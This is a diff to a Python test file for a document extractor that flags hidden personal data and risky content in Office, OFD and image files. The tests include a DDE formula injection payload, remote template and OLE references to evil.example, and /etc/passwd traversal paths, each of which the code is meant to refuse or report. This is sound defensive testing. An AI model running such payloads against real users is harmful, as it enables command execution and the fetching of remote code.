@@ -1,12 +1,15 @@
 import zipfile
+import zlib
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from mingtang import guard
 from mingtang.files import archive, child
 from mingtang.files.decode import try_decode
 from mingtang.files.extract import extract
+from mingtang.files.parts import UNSEEN
 from mingtang.lib.errors import Refused
 from tests.unit.files import photos, samples
 
@@ -42,6 +45,22 @@ def test_word_text_includes_tables_headers_text_boxes_deletions_and_properties()
         ("文档属性“作者”", "某某"),
     ]
     assert found.warnings == ["文件里有修订、隐藏的文字、批注，打开的人都能翻出来，公开前请删去，另存一份再传。"]
+
+
+def test_a_row_of_a_word_table_is_one_line_with_its_cells_in_their_columns():
+    def cell(*lines, span=1):
+        wide = f'<w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>' if span > 1 else ""
+        return f"<w:tc>{wide}{''.join(map(samples.paragraph, lines))}</w:tc>"
+
+    rows = [
+        cell("救助名单", span=3),
+        cell("姓名") + cell("村组") + cell("病种"),
+        cell("王小满") + cell("") + cell("尿毒症", "透析"),
+    ]
+    table = "<w:tbl>" + "".join(f"<w:tr>{row}</w:tr>" for row in rows) + "</w:tbl>"
+    text = extract(samples.docx(samples.paragraph("前") + table + samples.paragraph("后"))).text
+    assert text == "前\n救助名单\t\t\n姓名\t村组\t病种\n王小满\t\t尿毒症 透析\n后"
+    assert any(one.blocks and "病种" in one.message for one in guard.check(text)), "the guard reads the table as one"
 
 
 def test_sheets_are_read_hidden_ones_too_and_long_numbers_stay_whole():
@@ -84,12 +103,61 @@ def test_each_hidden_place_of_a_spreadsheet_has_its_name():
     }
 
 
+ID = "11010519491231002X"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        samples.book(f'<sheetData><row><c t="str"><f>IF(A1="{ID}",1,0)</f><v>1</v></c></row></sheetData>'),
+        samples.book(f"<dataValidations><dataValidation><formula1>{ID}</formula1></dataValidation></dataValidations>"),
+        samples.book(f"<conditionalFormatting><cfRule><formula>A1={ID}</formula></cfRule></conditionalFormatting>"),
+        samples.book("", xl__theme__theme1=f'<a name="{ID}"/>'),
+        samples.book("", **{"xl__printerSettings__p.bin": ID.encode("utf-16-le")}),
+        samples.book("", **{"xl__embeddings__b.xlsx": samples.book(f"<cf><formula>{ID}</formula></cf>")}),
+        samples.docx("<w:p/>", word__settings=f'<settings><docVar val="{ID}"/></settings>'),
+        samples.docx(samples.paragraph("正文"), word__media__a=f"<a>{ID}</a>"),
+        samples.ofd("正文", Doc_0__Attr_xml=f'<a id="{ID}"/>'),
+        photos.png(b"", more=[(b"zTXt", b"Comment\0\0" + zlib.compress(ID.encode()))]),
+        photos.png(b"", more=[(b"zzZz", ID.encode())]),
+        photos.jpeg(b"II*\0" + ID.encode() + b"\0"),
+    ],
+)  # fmt: skip
+def test_a_number_that_points_at_somebody_is_found_wherever_it_stands(data):
+    parts = dict(extract(data).parts)
+    assert parts.get(UNSEEN) == ID
+    assert any(one.blocks for one in guard.check_many(parts.items()))
+
+
+def test_a_number_that_is_read_stands_in_one_place_only():
+    rows = [["姓名", "号码"], ["张三", ID], ["李四", 13812345678], ["王五", 0.13812345678]]
+    assert [label for label, _ in extract(samples.xlsx(rows)).parts] == [""]
+    comments = {"xl__comments__comment1": f'<comments xmlns="x"><t>{ID}</t></comments>'}
+    assert dict(extract(samples.book("", **comments)).parts)["批注"] == ID, "as another program files them"
+
+
+def test_what_would_run_in_a_spreadsheet_is_refused_or_told():
+    cell = "<sheetData><row><c><f>{}</f></c></row></sheetData>"
+    with pytest.raises(Refused, match="DDE"):
+        extract(samples.book(cell.format("cmd|' /C calc'!A0")))
+    extract(samples.book(cell.format('A1&amp;"|"&amp;B1')))
+    assert "公式运行" in extract("村,数\n=cmd|' /C calc'!A0,3\n".encode()).warnings[0]
+    assert not extract("村,数\n长堤村,-3\n-- 说明 --\n".encode()).warnings
+
+
 def test_references_to_the_world_outside_are_told_and_not_followed():
     outside = '<r><Relationship Type="x/{}" Target="http://evil.example/a.png" TargetMode="External"/></r>'
     with_picture = samples.docx("<w:p/>", word__outside=outside.format("image"))
     assert "引用了别处的图片或者文件（http://evil.example/a.png）" in extract(with_picture).warnings[0]
     with_link = extract(samples.docx("<w:p/>", word__outside=outside.format("hyperlink")))
     assert (with_link.parts, with_link.warnings) == ([("链接", "http://evil.example/a.png")], [])
+    away = outside.replace("http://evil.example/a.png", "{}")
+    for address in ("http://evil.example/t.dotm", "\\\\evil.example\\t.dotm", "mhtml:http://evil.example/x!y"):
+        for kind in ("attachedTemplate", "oleObject"):
+            with pytest.raises(Refused, match="到别的机器上取内容"):
+                extract(samples.docx("<w:p/>", word__outside=away.format(kind, address)))
+    own = "file:///C:\\Users\\zhang\\Normal.dotm"
+    assert extract(samples.docx("<w:p/>", word__outside=away.format("attachedTemplate", own))).parts == [("链接", own)]
     for address in ("http://evil.example/p.xml", "../../etc/passwd", "file:///etc/passwd"):
         page = f'<ofd:Pages><ofd:Page BaseLoc="{address}"/></ofd:Pages>'
         found = extract(samples.ofd("正文", document=page))
@@ -253,8 +321,9 @@ def test_a_child_without_enough_memory_or_time_is_a_sentence():
 @pytest.mark.shared
 def test_real_office_files_are_read(shared):
     office = shared / "data" / "office_samples"
-    assert "业务流水号：" in lines((office / "doc" / "业务办理所需提供资料一次性告知单.docx").read_bytes())
-    assert "审批处理表" in lines((office / "doc" / "审批受理单.docx").read_bytes())
+    told = lines((office / "doc" / "业务办理所需提供资料一次性告知单.docx").read_bytes())
+    assert "办事人：\t\t业务流水号：\t" in told
+    assert "审批处理表" in {line.strip() for line in lines((office / "doc" / "审批受理单.docx").read_bytes())}
     for path in sorted((office / "ofd").glob("*.ofd")):
         assert extract(path.read_bytes()).visible == "你好呀，OFD Reader&Writer！"
     with pytest.raises(Refused, match="旧版"):
